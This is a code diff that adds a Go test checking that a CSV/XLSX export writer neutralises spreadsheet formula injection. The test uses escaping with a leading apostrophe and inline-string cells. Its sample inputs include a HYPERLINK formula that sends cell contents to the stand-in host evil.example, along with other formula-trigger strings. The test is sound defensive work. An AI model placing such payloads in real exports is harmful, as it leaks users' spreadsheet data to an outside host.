@@ -70,3 +70,70 @@ func TestParseFormat(t *testing.T) {
 		t.Fatal("pdf accepted")
 	}
 }
+
+// TestFormulaInjection guards finding 3: a cell a spreadsheet would run
+// as a formula gets a leading apostrophe in CSV (OWASP's rule), other
+// text is untouched, and XLSX writes every text as an inline string,
+// never a formula.
+func TestFormulaInjection(t *testing.T) {
+	evil := []string{`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\r=1"}
+	plain := []string{"SR-2026-000001", "镜头=坏了", "a-b", "", "'quoted"}
+	var b bytes.Buffer
+	w, _ := New(CSV, &b, "")
+	w.Row(append(append([]any{}, toAny(evil)...), toAny(plain)...)...)
+	w.Row(-5, 2.5) // numbers are not text
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+	cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\ufeff")))
+	cr.FieldsPerRecord = -1
+	rows, err := cr.ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, s := range evil {
+		if got := rows[0][i]; got != "'"+s {
+			t.Errorf("CSV cell %q: got %q, want it behind an apostrophe", s, got)
+		}
+	}
+	for i, s := range plain {
+		if got := rows[0][len(evil)+i]; got != s {
+			t.Errorf("CSV cell %q: got %q, want it unchanged", s, got)
+		}
+	}
+	if rows[1][0] != "-5" {
+		t.Errorf("number: got %q", rows[1][0])
+	}
+
+	var x bytes.Buffer
+	xw, _ := New(XLSX, &x, "Queue")
+	xw.Row(toAny(evil)...)
+	if err := xw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	f, err := excelize.OpenReader(&x)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	for i, s := range evil {
+		cell, _ := excelize.CoordinatesToCellName(i+1, 1)
+		if formula, _ := f.GetCellFormula("Queue", cell); formula != "" {
+			t.Errorf("XLSX %s holds formula %q", cell, formula)
+		}
+		if typ, _ := f.GetCellType("Queue", cell); typ != excelize.CellTypeInlineString {
+			t.Errorf("XLSX %s: type %v, want an inline string", cell, typ)
+		}
+		if v, _ := f.GetCellValue("Queue", cell); strings.TrimSpace(v) != strings.TrimSpace(s) {
+			t.Errorf("XLSX %s: got %q, want %q", cell, v, s)
+		}
+	}
+}
+
+func toAny(ss []string) []any {
+	out := make([]any, len(ss))
+	for i, s := range ss {
+		out[i] = s
+	}
+	return out
+}
